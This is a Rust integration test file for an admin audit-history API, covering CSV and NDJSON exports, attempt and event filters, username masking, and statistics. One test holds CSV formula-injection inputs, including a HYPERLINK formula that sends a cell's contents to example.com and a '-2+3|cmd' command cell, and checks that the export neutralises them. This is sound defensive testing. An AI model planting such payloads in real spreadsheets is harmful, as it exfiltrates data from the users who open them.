@@ -1,0 +1,288 @@
+//! The history as files and as numbers, and the lists of attempts and events.
+
+use std::collections::BTreeSet;
+
+use chrono::{DateTime, TimeDelta, Utc};
+use rstest::rstest;
+use serde_json::{Value, json};
+use vigie::model::attempt::{Attempt, AttemptOutcome};
+use vigie::model::audit::{AuditEvent, AuditKind, Cause, Subject};
+use vigie::model::session::{Actor, EndReason, Origin, Session};
+use vigie::store::{StoreError, audit};
+
+use crate::support::app::{Answer, PASSWORD, TestApp, TestClient};
+use crate::support::backend::Backend::{self, Postgres, Sqlite};
+use crate::support::history::{ELSEWHERE, ended, every_page};
+
+/// Rows that need more than two pages of the export.
+const MANY: usize = 1_234;
+
+/// The rows of a CSV file by the names of its header.
+fn csv_rows(answer: &Answer) -> Vec<std::collections::BTreeMap<String, String>> {
+    assert_eq!(answer.status, 200, "{}", answer.body);
+    assert_eq!(answer.header("content-type"), Some("text/csv; charset=utf-8; header=present"));
+    let mut reader = csv::ReaderBuilder::new().flexible(false).from_reader(answer.body.as_bytes());
+    reader.deserialize().map(|row| row.expect("a row with every column")).collect()
+}
+
+fn json_rows(answer: &Answer) -> Vec<Value> {
+    assert_eq!(answer.status, 200, "{}", answer.body);
+    assert_eq!(answer.header("content-type"), Some("application/x-ndjson"));
+    answer.body.lines().map(|line| serde_json::from_str(line).expect("an object a line")).collect()
+}
+
+fn at(moment: DateTime<Utc>) -> String {
+    moment.format("%Y-%m-%dT%H:%M:%SZ").to_string()
+}
+
+/// ADM-10: an export has every row, once, in order.
+#[rstest]
+#[actix_web::test]
+async fn every_session_is_exported(#[values(Sqlite, Postgres)] backend: Backend) {
+    let app = TestApp::start(backend).await;
+    let auditor = app.auditor().await;
+    let alice = app.user("alice", "agent").await;
+    let sessions: Vec<Session> = (0..MANY).map(|_| app.session(&alice, "laptop", TimeDelta::hours(1))).collect();
+    let ids: BTreeSet<String> = sessions.iter().map(|session| session.id.to_string()).collect();
+    app.add_sessions(sessions).await;
+    let answer = auditor.get("/admin/sessions/export?format=csv&user=alice&sort=started_at").await;
+    assert_eq!(answer.header("content-disposition"), Some("attachment; filename=\"sessions.csv\""));
+    assert_eq!(answer.header("cache-control"), Some("no-store"));
+    let rows = csv_rows(&answer);
+    assert_eq!(rows.len(), MANY);
+    assert_eq!(rows.iter().map(|row| row["id"].clone()).collect::<BTreeSet<_>>(), ids);
+    assert!(rows.windows(2).all(|pair| pair[0]["id"] < pair[1]["id"]));
+    let first = &rows[0];
+    assert_eq!((first["username"].as_str(), first["state"].as_str()), ("alice", "active"));
+    assert_eq!((first["ip"].as_str(), first["ended_at"].as_str(), first["amr"].as_str()), (ELSEWHERE, "", "pwd"));
+    let answer = auditor.get("/admin/sessions/export?format=ndjson&user=alice").await;
+    assert_eq!(answer.header("content-disposition"), Some("attachment; filename=\"sessions.ndjson\""));
+    let objects = json_rows(&answer);
+    assert_eq!(objects.len(), MANY);
+    let listed = auditor.get("/admin/sessions?user=alice&limit=500").await.expect(200);
+    assert_eq!(objects[..500], listed["items"].as_array().expect("rows")[..], "the objects of the API");
+    assert!(!answer.body.contains("seed") && !answer.body.contains("vgr_"), "nothing that can be replayed (P7)");
+    let events = auditor.get("/admin/audit?kind=history.exported").await.expect(200);
+    assert_eq!(events["items"][0]["details"]["count"], MANY);
+}
+
+#[rstest]
+#[actix_web::test]
+async fn every_attempt_is_exported(#[values(Sqlite, Postgres)] backend: Backend) {
+    let app = TestApp::start(backend).await;
+    let auditor = app.auditor().await;
+    let start = app.now() - TimeDelta::hours(2);
+    let attempts = (0..MANY).map(|number| app.attempt("g…0a0b0c0d", start + TimeDelta::seconds(number as i64 / 5)));
+    app.add_attempts(attempts.collect()).await;
+    let path = "/admin/attempts/export?outcome=unknown_user&format";
+    let rows = csv_rows(&auditor.get(&format!("{path}=csv")).await);
+    let objects = json_rows(&auditor.get(&format!("{path}=ndjson")).await);
+    assert_eq!((rows.len(), objects.len()), (MANY, MANY));
+    for (row, object) in rows.iter().zip(&objects) {
+        assert_eq!(object["id"], row["id"]);
+        assert_eq!((row["username"].as_str(), row["user_id"].as_str()), ("g…0a0b0c0d", ""));
+    }
+    assert!(rows.windows(2).all(|pair| (&pair[0]["at"], &pair[0]["id"]) > (&pair[1]["at"], &pair[1]["id"])));
+}
+
+#[rstest]
+#[actix_web::test]
+async fn every_event_is_exported(#[values(Sqlite, Postgres)] backend: Backend) {
+    let app = TestApp::start(backend).await;
+    let auditor = app.auditor().await;
+    let now = app.now();
+    let work = move |db: &mut _| {
+        (0..MANY).try_for_each(|number| {
+            let event = AuditEvent::new(now, AuditKind::KeyRotated, &Cause::system("test"), Subject::everybody());
+            audit::record(db, &event.with(json!({ "number": number, "text": "a, \"b\"\r\nc" })))
+        })
+    };
+    app.app.store.write(move |db| work(db).map_err(StoreError::from)).await.expect("recorded");
+    let rows = csv_rows(&auditor.get("/admin/audit/export?kind=key.rotated&format=csv").await);
+    let objects = json_rows(&auditor.get("/admin/audit/export?kind=key.rotated&format=ndjson").await);
+    assert_eq!((rows.len(), objects.len()), (MANY, MANY));
+    for (place, (row, object)) in rows.iter().zip(&objects).enumerate() {
+        let details: Value = serde_json::from_str(&row["details"]).expect("details are JSON");
+        assert_eq!(details, object["details"]);
+        assert_eq!(details["number"], MANY - 1 - place);
+        assert_eq!(row["seq"], object["seq"].to_string());
+    }
+}
+
+/// ADM-11: a spreadsheet takes no cell for a formula.
+#[rstest]
+#[actix_web::test]
+async fn adm_11_an_export_runs_no_formula(#[values(Sqlite, Postgres)] backend: Backend) {
+    let app = TestApp::start(backend).await;
+    let auditor = app.auditor().await;
+    app.user("=1+1", "@SUM(A1)").await;
+    let agent = "=HYPERLINK(\"http://example.com/?x=\"&A1,\"click\")";
+    let login = json!({ "username": "=1+1", "password": PASSWORD, "device_name": "-2+3|cmd" });
+    let request = app.nobody().request(reqwest::Method::POST, "/auth/login").header("user-agent", agent).json(&login);
+    crate::support::app::send(request).await.expect(200);
+    let rows = csv_rows(&auditor.get("/admin/sessions/export?format=csv&role=%40SUM(A1)").await);
+    let cells = ["username", "role", "user_agent", "device_name"].map(|name| rows[0][name].clone());
+    assert_eq!(cells, ["'=1+1".to_owned(), "'@SUM(A1)".to_owned(), format!("'{agent}"), "'-2+3|cmd".to_owned(),]);
+    let rows = csv_rows(&auditor.get("/admin/attempts/export?format=csv&username=%3D1%2B1").await);
+    assert_eq!(rows[0]["user_agent"], format!("'{agent}"));
+    // Machines get what was there.
+    let objects = json_rows(&auditor.get("/admin/sessions/export?format=ndjson&role=%40SUM(A1)").await);
+    assert_eq!(objects[0]["user_agent"], agent);
+}
+
+#[rstest]
+#[actix_web::test]
+async fn an_export_without_rows_has_its_header(#[values(Sqlite, Postgres)] backend: Backend) {
+    let app = TestApp::start(backend).await;
+    let auditor = app.auditor().await;
+    for (list, filter) in [("sessions", "user=nobody"), ("attempts", "username=nobody"), ("audit", "subject=nobody")] {
+        let answer = auditor.get(&format!("/admin/{list}/export?format=csv&{filter}")).await;
+        assert_eq!(csv_rows(&answer).len(), 0);
+        assert_eq!(answer.body.lines().count(), 1, "{}", answer.body);
+        let answer = auditor.get(&format!("/admin/{list}/export?format=ndjson&{filter}")).await;
+        assert_eq!(answer.body, "");
+        for query in ["", "format=xml", "format=csv&limit=1", "format=csv&usr=x", "format=csv&cursor=x"] {
+            auditor.get(&format!("/admin/{list}/export?{query}")).await.problem(422, "invalid_input");
+        }
+    }
+}
+
+/// Names whose attempts a filter finds, newest first.
+async fn found(reviewer: &TestClient<'_>, query: &str) -> Vec<String> {
+    let rows = every_page(reviewer, &format!("/admin/attempts?{query}"), 2).await;
+    rows.iter()
+        .map(|row| format!("{} {}", row["username"].as_str().unwrap_or("?"), row["outcome"].as_str().unwrap_or("?")))
+        .collect()
+}
+
+/// ADM-10, P7: a name that nobody has is shown masked, and found by who knows it.
+#[rstest]
+#[actix_web::test]
+async fn attempts_are_found_by_every_filter(#[values(Sqlite, Postgres)] backend: Backend) {
+    let app = TestApp::start(backend).await;
+    let auditor = app.auditor().await;
+    let alice = app.user("Alice", "agent").await;
+    let log_in = async |name: &str, password: &str| {
+        app.advance(TimeDelta::seconds(1));
+        app.nobody().post("/auth/login", json!({ "username": name, "password": password })).await
+    };
+    let start = app.now();
+    log_in("alice", PASSWORD).await.expect(200);
+    log_in("ALICE", "wrong wrong wrong").await.problem(401, "invalid_credentials");
+    log_in("My Password 1", "alice").await.problem(401, "invalid_credentials");
+    log_in("my password 1", "alice").await.problem(401, "invalid_credentials");
+    let elsewhere = Attempt {
+        user_id: Some(alice.id),
+        outcome: AttemptOutcome::Disabled,
+        ip: "2001:db8::7".parse().expect("an address"),
+        ..app.attempt("Alice", start)
+    };
+    app.add_attempts(vec![elsewhere]).await;
+    let masked = found(&auditor, "outcome=unknown_user").await;
+    assert_eq!(masked.len(), 2);
+    assert_eq!(masked[0], masked[1], "two tries with one name are seen to be one");
+    assert!(masked[0].starts_with("m…") && !masked[0].contains("assword"), "{masked:?}");
+    let (success, wrong, disabled) = ("Alice success", "Alice wrong_password", "Alice disabled");
+    for (query, expected) in [
+        ("username=alice".to_owned(), vec![wrong, success, disabled]),
+        (format!("user={}", alice.id), vec![wrong, success, disabled]),
+        ("user=ALICE&outcome=success".into(), vec![success]),
+        ("username=MY%20password%201".into(), vec![&masked[0], &masked[0]]),
+        ("user=my%20password%201".into(), vec![&masked[0], &masked[0]]),
+        ("user=alice&username=bob".into(), vec![]),
+        ("ip=2001:db8::/48".into(), vec![disabled]),
+        ("ip=127.0.0.0/8&username=alice".into(), vec![wrong, success]),
+        (
+            format!("username=alice&from={}&to={}", at(start), at(start + TimeDelta::seconds(2))),
+            vec![success, disabled],
+        ),
+        (format!("username=alice&from={}", at(start + TimeDelta::seconds(2))), vec![wrong]),
+    ] {
+        assert_eq!(found(&auditor, &query).await, expected, "{query}");
+    }
+    for query in ["usr=x", "outcome=perhaps", "ip=x", "from=x", "sort=at"] {
+        auditor.get(&format!("/admin/attempts?{query}")).await.problem(422, "invalid_input");
+    }
+}
+
+#[rstest]
+#[actix_web::test]
+async fn events_are_found_by_every_filter(#[values(Sqlite, Postgres)] backend: Backend) {
+    let app = TestApp::start(backend).await;
+    let admin = app.admin().await;
+    let root = admin.get("/auth/me").await.expect(200)["user"]["id"].as_str().expect("an id").to_owned();
+    let alice = app.signed_in("alice").await;
+    let user = alice.get("/auth/me").await.expect(200)["user"]["id"].as_str().expect("an id").to_owned();
+    app.advance(TimeDelta::seconds(10));
+    let moment = app.now();
+    admin.patch(&format!("/admin/users/{user}"), json!({ "role": "chef" })).await.expect(200);
+    admin.post_empty(&format!("/admin/sessions/{}/end", alice.session_id)).await.expect(204);
+    let kinds = async |query: &str| {
+        let rows = every_page(&admin, &format!("/admin/audit?{query}"), 3).await;
+        rows.iter()
+            .filter_map(|row| row["kind"].as_str().map(str::to_owned))
+            .filter(|kind| kind != "history.read")
+            .collect::<Vec<_>>()
+            .join(" ")
+    };
+    assert_eq!(kinds(&format!("session_id={}", alice.session_id)).await, "session.ended session.started");
+    assert_eq!(kinds(&format!("subject={user}")).await, "user.role_changed session.started user.created");
+    assert_eq!(kinds(&format!("subject={}", alice.session_id)).await, "session.ended");
+    assert_eq!(kinds("kind=user.role_changed").await, "user.role_changed");
+    assert_eq!(kinds(&format!("actor={root}&from={}", at(moment))).await, "session.ended user.role_changed");
+    assert_eq!(kinds(&format!("actor=cli&to={}", at(moment))).await, "user.created user.created");
+    assert_eq!(kinds(&format!("from={}&to={}", at(moment), at(moment))).await, "");
+    let event = admin.get("/admin/audit?kind=user.role_changed").await.expect(200)["items"][0].clone();
+    assert_eq!(event["actor"], json!({ "kind": "admin", "id": root }));
+    assert_eq!(event["subject"], json!({ "kind": "user", "id": user }));
+    assert_eq!(event["details"], json!({ "from": "agent", "to": "chef" }));
+    assert_eq!((&event["ip"], event["at"].as_str().map(|at| at.ends_with('Z'))), (&json!("127.0.0.1"), Some(true)));
+    for query in ["usr=x", "kind=perhaps", "session_id=x", "from=x"] {
+        admin.get(&format!("/admin/audit?{query}")).await.problem(422, "invalid_input");
+    }
+}
+
+/// Known numbers on two days.
+#[rstest]
+#[actix_web::test]
+async fn statistics_count_what_happened(#[values(Sqlite, Postgres)] backend: Backend) {
+    let app = TestApp::start(backend).await;
+    let auditor = app.auditor().await;
+    let alice = app.user("alice", "agent").await;
+    let midnight = app.now().date_naive().and_hms_opt(0, 0, 0).expect("midnight").and_utc();
+    let hour = |hours: i64| midnight + TimeDelta::hours(hours);
+    let started = |moment: DateTime<Utc>, end: Option<(DateTime<Utc>, EndReason)>| Session {
+        origin: Origin { ip: ELSEWHERE.parse().expect("an address"), user_agent: None },
+        end: end.and_then(|(moment, reason)| ended(moment, reason, &Actor::user(alice.id), None)),
+        ..app.session(&alice, "x", app.now() - moment)
+    };
+    app.add_sessions(vec![
+        started(hour(-24), Some((hour(-23), EndReason::Logout))),
+        started(hour(-23), Some((hour(-1), EndReason::Logout))),
+        started(hour(-1), Some((hour(0), EndReason::EndedByAdmin))),
+        started(hour(0), None),
+        started(hour(0) + TimeDelta::microseconds(1), None),
+        started(hour(1) - TimeDelta::microseconds(1), None),
+    ])
+    .await;
+    app.add_attempts(vec![app.attempt("a", hour(-24)), app.attempt("b", hour(0)), app.attempt("c", hour(0))]).await;
+    let path = format!("/admin/stats?from={}&to={}", at(hour(-24)), at(hour(2)));
+    let days = auditor.get(&format!("{path}&bucket=day")).await.expect(200);
+    let counted = |bucket: &Value| [&bucket["logins"], &bucket["failures"], &bucket["ends"]].map(Clone::clone);
+    assert_eq!(days["buckets"].as_array().map(Vec::len), Some(2));
+    assert_eq!(counted(&days["buckets"][0]), [json!(3), json!(1), json!({ "logout": 2 })]);
+    assert_eq!(counted(&days["buckets"][1]), [json!(3), json!(2), json!({ "ended_by_admin": 1 })]);
+    // Three of alice's and the auditor's own.
+    assert_eq!(days["active_now"], 4);
+    let hours = auditor.get(&format!("{path}&bucket=hour")).await.expect(200);
+    let buckets = hours["buckets"].as_array().expect("buckets");
+    assert_eq!(buckets.len(), 26);
+    assert_eq!(counted(&buckets[0]), [json!(1), json!(1), json!({})]);
+    assert_eq!(counted(&buckets[1]), [json!(1), json!(0), json!({ "logout": 1 })]);
+    assert_eq!(counted(&buckets[24]), [json!(3), json!(2), json!({ "ended_by_admin": 1 })]);
+    assert_eq!(counted(&buckets[25]), [json!(0), json!(0), json!({})]);
+    assert_eq!(buckets[24]["start"], at(hour(0)).replace('Z', ".000000Z"));
+    for query in ["bucket=week", "from=2026-01-02T00:00:00Z&to=2026-01-01T00:00:00Z", "limit=1"] {
+        auditor.get(&format!("/admin/stats?{query}")).await.problem(422, "invalid_input");
+    }
+}
